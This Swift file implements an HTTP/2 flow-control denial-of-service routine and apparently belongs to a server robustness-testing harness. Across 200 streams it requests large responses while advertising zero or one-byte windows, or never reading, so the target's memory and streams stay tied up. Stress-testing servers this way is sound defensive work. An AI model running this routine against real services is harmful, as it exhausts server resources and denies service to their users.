/// Clients that ask for much and take nothing of it.
extension Attack {
    func takeNothing(_ target: AttackTarget, _ stop: StopFlag) throws {
        let attacker = try Attacker(target, stop)
        attacker.waitsForRoom = self != .neverReads
        if self != .neverReads { try attacker.send(Frames.setting(4, self == .zeroWindow ? 0 : 1)) }
        for number in 0..<200 {
            let stream = UInt32(2 * number + 1)
            let request = number % 2 == 0 ? Frames.wanting(1 << 20) : Frames.wanting(64 << 10, times: 1000)
            let path = number % 2 == 0 ? Frames.unary : Frames.output
            try attacker.send(Frames.headers(stream, path: path) + Frames.data(stream, request))
            if self != .neverReads { try attacker.drain() }
        }
        for round in 0..<200 {
            if self != .neverReads { try attacker.drain() }
            if self == .tinyWindows { try attacker.send(Frames.window(UInt32(2 * (round % 200) + 1), 1)) }
            try Pause.milliseconds(10, stop)
        }
    }
}
